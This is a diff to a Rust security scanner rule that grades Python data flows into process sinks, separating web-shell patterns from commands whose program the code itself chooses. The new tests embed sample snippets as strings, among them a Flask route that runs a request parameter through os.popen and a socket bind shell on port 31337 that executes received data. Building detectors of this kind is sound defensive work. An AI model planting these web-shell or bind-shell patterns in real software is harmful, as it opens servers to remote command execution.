@@ -192,6 +192,13 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
     let endpoint = (sink == SinkKind::Network)
         .then(|| sink_endpoint(checker, call))
         .flatten();
+    // `subprocess.run(['git', 'log', '-n', request.args['n']])`: a program the code chose, given
+    // a visitor's value as one argument, is no shell for the visitor.
+    let program_chosen = sink == SinkKind::Process
+        && matches!(
+            call.arguments.args.first(),
+            Some(Expr::List(_) | Expr::Tuple(_))
+        );
     let Some((source, severity)) = found
         .into_iter()
         .filter_map(|index| checker.sources.get(index).cloned())
@@ -199,7 +206,10 @@ pub fn check_sink(checker: &mut Checker, call: &ExprCall, sink: SinkKind) {
         // stolen data.
         .filter(|source| source.kind != SourceKind::FileContent)
         .map(|source| {
-            let severity = flow_severity(&source, sink, context, endpoint.is_some());
+            let mut severity = flow_severity(&source, sink, context, endpoint.is_some());
+            if program_chosen && source.label.starts_with(super::sources::WEB_REQUEST) {
+                severity = severity.min(0.2);
+            }
             (source, severity)
         })
         .max_by(|a, b| a.1.total_cmp(&b.1))
@@ -300,6 +310,13 @@ fn flow_severity(
         {
             0.8
         }
+        // A route running what its visitor sends is a web shell; a web app's own commands take
+        // their arguments from configuration, not from the request.
+        (SourceKind::Network, SinkKind::Process)
+            if source.label.starts_with(super::sources::WEB_REQUEST) =>
+        {
+            0.7
+        }
         (SourceKind::Network, SinkKind::Process) => {
             if early {
                 0.85
@@ -344,6 +361,16 @@ fn flow_tag(kind: SourceKind, sink: SinkKind) -> &'static str {
 mod tests {
     #![allow(clippy::indexing_slicing)]
     use crate::rules::testing::{findings, max_severity};
+
+    #[test]
+    fn a_route_running_what_its_visitor_sends_is_a_web_shell() {
+        let shell = "import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n";
+        assert!(max_severity("p/pkg/app.py", shell, "WH200") >= 0.7);
+        let argument = "import subprocess\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/log')\ndef log():\n    return subprocess.run(['git', 'log', '-n', request.args['n']], capture_output=True).stdout\n";
+        assert!(max_severity("p/pkg/app.py", argument, "WH200") <= 0.2);
+        let bind = "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 31337))\ns.listen(1)\nconn, _ = s.accept()\nsubprocess.run(conn.recv(4096).decode(), shell=True)\n";
+        assert!(max_severity("p/pkg/__init__.py", bind, "WH200") >= 0.85);
+    }
 
     #[test]
     fn saved_wifi_keys_and_credential_manager_entries_are_secrets() {
